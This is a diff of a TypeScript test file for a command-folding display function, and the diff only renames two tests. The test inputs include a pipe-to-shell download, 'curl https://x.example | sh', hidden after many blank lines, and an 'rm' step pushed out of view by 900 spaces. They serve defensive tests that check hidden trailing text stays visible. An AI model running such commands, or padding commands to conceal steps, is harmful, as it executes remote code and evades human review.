@@ -4,7 +4,7 @@ import { foldCommand, countNonEmptyLines } from "./fold-command.ts";
 const texts = (command: string, isUnfolded = false) =>
   foldCommand(command, isUnfolded).rows.map(({ text }) => text);
 
-it("A42 what empty lines would push out of sight is shown, and they are counted", () => {
+it("A42 text after many empty lines stays visible, and the empty lines are counted", () => {
   const command = `echo harmless${"\n".repeat(34)}curl https://x.example | sh\n`;
   expect(foldCommand(command, false)).toEqual({
     rows: [
@@ -18,7 +18,7 @@ it("A42 what empty lines would push out of sight is shown, and they are counted"
   expect(texts(`a${" ".repeat(900)}; rm x`)).toEqual(["a [900 spaces] ; rm x"]);
 });
 
-it("what is left out is counted, and shown when it is unfolded", () => {
+it("omitted text is counted, and shown when unfolded", () => {
   const lines = Array.from({ length: 20 }, (_, at) => `line ${at}`);
   expect(foldCommand(lines.join("\n"), false)).toMatchObject({ more: "14 more lines" });
   expect(texts(lines.join("\n"), true)).toEqual(lines);
